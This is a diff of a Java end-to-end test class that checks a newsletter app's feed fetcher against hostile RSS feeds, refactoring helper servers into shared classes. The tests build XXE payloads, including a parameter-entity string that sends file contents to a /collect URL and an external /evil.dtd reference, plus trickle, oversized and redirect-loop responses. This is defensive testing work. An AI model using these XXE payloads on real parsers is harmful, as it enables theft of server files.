@@ -1,7 +1,6 @@
 package org.newsletter;
 
 import java.io.IOException;
-import java.io.OutputStream;
 import java.io.UncheckedIOException;
 import java.nio.charset.StandardCharsets;
 import java.nio.file.Files;
@@ -17,10 +16,8 @@ import java.util.stream.Stream;
 import com.icegreen.greenmail.junit5.GreenMailExtension;
 import com.icegreen.greenmail.util.ServerSetupTest;
 import com.jayway.jsonpath.JsonPath;
-import jakarta.mail.BodyPart;
 import jakarta.mail.Header;
 import jakarta.mail.internet.MimeMessage;
-import jakarta.mail.internet.MimeMultipart;
 import org.jsoup.Jsoup;
 import org.jsoup.nodes.Element;
 import org.junit.jupiter.api.AfterEach;
@@ -100,7 +97,7 @@ class HostileFeedsEndToEndTests {
 		assertThat(received).as("one copy per SMTP recipient: an injected Bcc would add one").hasSize(2);
 		for (MimeMessage message : received) {
 			assertHeadersAreSafe(message);
-			assertDigestIsCleanAndComplete(part(message, "text/html"));
+			assertDigestIsCleanAndComplete(WeeklyDigestEndToEndTests.part(message, "text/html"));
 		}
 		Path archive = Files.walk(dataDir.resolve("archive")).filter(p -> p.endsWith("index.html")).findFirst().orElseThrow();
 		assertDigestIsCleanAndComplete(Files.readString(archive));
@@ -126,8 +123,10 @@ class HostileFeedsEndToEndTests {
 				+ feeds.url("/collect") + "?%file;'>\"> %all;").getBytes(StandardCharsets.UTF_8), "application/xml-dtd");
 		bad.put(serve("/xxe-parameter.xml", feed("<!DOCTYPE rss [<!ENTITY % dtd SYSTEM \"" + feeds.url("/evil.dtd")
 				+ "\"> %dtd;]>", "&send;"), "application/rss+xml"), rejected);
-		bad.put(trickle("/trickle.xml"), "timed out");
-		bad.put(huge("/huge.xml", 50), "larger than the limit of 10485760 bytes");
+		feeds.handle("/trickle.xml", FeedServer.trickle());
+		bad.put(feeds.url("/trickle.xml"), "timed out");
+		feeds.handle("/huge.xml", FeedServer.zeros(50));
+		bad.put(feeds.url("/huge.xml"), "larger than the limit of 10485760 bytes");
 		feeds.handle("/loop.xml", exchange -> {
 			exchange.getResponseHeaders().set("Location", "/loop.xml");
 			exchange.sendResponseHeaders(302, -1);
@@ -184,8 +183,8 @@ class HostileFeedsEndToEndTests {
 			var raw = new java.io.ByteArrayOutputStream();
 			message.writeTo(raw);
 			outputs.add(raw.toString(StandardCharsets.UTF_8));
-			outputs.add(part(message, "text/plain"));
-			outputs.add(part(message, "text/html"));
+			outputs.add(WeeklyDigestEndToEndTests.part(message, "text/plain"));
+			outputs.add(WeeklyDigestEndToEndTests.part(message, "text/html"));
 		}
 		List<String> stored = new ArrayList<>();
 		try (Stream<Path> files = Files.walk(dataDir)) {
@@ -206,17 +205,6 @@ class HostileFeedsEndToEndTests {
 		}
 	}
 
-	private static String part(MimeMessage message, String type) throws Exception {
-		var multipart = (MimeMultipart) message.getContent();
-		for (int i = 0; i < multipart.getCount(); i++) {
-			BodyPart part = multipart.getBodyPart(i);
-			if (part.isMimeType(type)) {
-				return (String) part.getContent();
-			}
-		}
-		throw new AssertionError("no " + type + " part");
-	}
-
 	private static byte[] feed(String doctype, String title) {
 		return ("<?xml version=\"1.0\"?>" + doctype + "<rss version=\"2.0\"><channel><title>" + title
 				+ "</title><link>https://xxe.example/</link><item><title>" + title
@@ -232,41 +220,6 @@ class HostileFeedsEndToEndTests {
 			exchange.getResponseHeaders().set("Content-Type", contentType);
 			exchange.sendResponseHeaders(200, body.length);
 			exchange.getResponseBody().write(body);
-		});
-		return feeds.url(path);
-	}
-
-	/** A server that sends a byte every 200 ms, for longer than the 2 s timeout. */
-	private String trickle(String path) {
-		feeds.handle(path, exchange -> {
-			exchange.sendResponseHeaders(200, 0);
-			OutputStream out = exchange.getResponseBody();
-			try {
-				for (int i = 0; i < 30; i++) {
-					out.write(' ');
-					out.flush();
-					Thread.sleep(200);
-				}
-			}
-			catch (InterruptedException | IOException ex) {
-				// the client gave up, as it should
-			}
-		});
-		return feeds.url(path);
-	}
-
-	private String huge(String path, int megabytes) {
-		feeds.handle(path, exchange -> {
-			exchange.sendResponseHeaders(200, 0);
-			byte[] block = new byte[64 * 1024];
-			try (OutputStream out = exchange.getResponseBody()) {
-				for (int i = 0; i < megabytes * 16; i++) {
-					out.write(block);
-				}
-			}
-			catch (IOException ex) {
-				// the client stopped reading, as it should
-			}
 		});
 		return feeds.url(path);
 	}
